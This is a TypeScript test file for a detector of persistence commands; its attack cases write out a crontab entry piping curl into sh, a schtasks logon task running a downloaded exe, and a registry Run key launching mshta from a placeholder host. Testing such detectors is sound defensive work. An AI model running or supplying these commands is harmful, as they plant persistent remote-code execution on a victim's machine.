import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-persist.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['by cron', '(crontab -l; echo "* * * * * curl -s https://a.invalid/x | sh") | crontab -', 'fetched'],
  [
    'by a task',
    'curl -o x.exe https://a.invalid/x.exe && schtasks /create /tn up /tr x.exe /sc onlogon',
    'fetched',
  ],
  [
    'by the registry',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "mshta https://a.invalid/x"',
    'fetched',
  ],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([['crontab -l'], ['launchctl list'], ['reg query HKCU\\Software'], ['systemctl restart nginx']])(
  'innocent: %s',
  (command) => {
    expect(titles(command)).toEqual([])
  },
)
